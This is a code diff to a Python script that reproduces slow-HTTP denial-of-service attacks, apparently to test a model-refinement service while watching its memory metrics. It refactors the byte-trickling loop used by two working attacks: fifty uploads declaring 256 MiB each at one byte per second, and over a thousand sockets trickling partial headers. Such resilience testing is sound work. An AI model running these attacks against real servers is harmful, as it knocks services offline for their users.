@@ -11,6 +11,7 @@ Each phase prints what a bureau's monitoring would see while the attack runs: /h
 (stlrefine_memory_reserved_bytes from /metrics). Standard library only.
 """
 import argparse
+import contextlib
 import os
 import random
 import socket
@@ -92,6 +93,29 @@ def probe(port, seconds, label):
           f"{peak_reserved / 2**20:.1f} MiB", flush=True)
 
 
+@contextlib.contextmanager
+def trickling(pick, period):
+    """While the block runs, sends one byte to each socket pick() returns, every period s."""
+    stop = threading.Event()
+
+    def trickle():
+        while not stop.is_set():
+            for s in pick():
+                try:
+                    s.send(b"x")
+                except OSError:
+                    pass
+            stop.wait(period)
+
+    t = threading.Thread(target=trickle)
+    t.start()
+    try:
+        yield
+    finally:
+        stop.set()
+        t.join()
+
+
 def slow_uploads(port, seconds, count=50):
     socks = []
     for _ in range(count):
@@ -99,22 +123,8 @@ def slow_uploads(port, seconds, count=50):
         s.sendall(b"POST /v1/refine HTTP/1.1\r\nHost: x\r\nContent-Type: model/stl\r\n"
                   b"Content-Length: 268435456\r\n\r\nsolid")
         socks.append(s)
-    stop = threading.Event()
-
-    def trickle():
-        while not stop.is_set():
-            for s in socks:
-                try:
-                    s.send(b"x")
-                except OSError:
-                    pass
-            stop.wait(1.0)
-
-    t = threading.Thread(target=trickle)
-    t.start()
-    probe(port, seconds, f"{count} uploads declaring 256 MiB, 1 byte/s each")
-    stop.set()
-    t.join()
+    with trickling(lambda: socks, 1.0):
+        probe(port, seconds, f"{count} uploads declaring 256 MiB, 1 byte/s each")
     answered = 0
     for s in socks:
         s.settimeout(0.5)
@@ -135,22 +145,8 @@ def trickling_heads(port, seconds, count=1100):
             socks.append(s)
         except OSError:
             break
-    stop = threading.Event()
-
-    def trickle():
-        while not stop.is_set():
-            for s in random.sample(socks, min(200, len(socks))):
-                try:
-                    s.send(b"X")
-                except OSError:
-                    pass
-            stop.wait(0.5)
-
-    t = threading.Thread(target=trickle)
-    t.start()
-    probe(port, seconds, f"{len(socks)} sockets from one address trickling heads")
-    stop.set()
-    t.join()
+    with trickling(lambda: random.sample(socks, min(200, len(socks))), 0.5):
+        probe(port, seconds, f"{len(socks)} sockets from one address trickling heads")
     for s in socks:
         s.close()
 
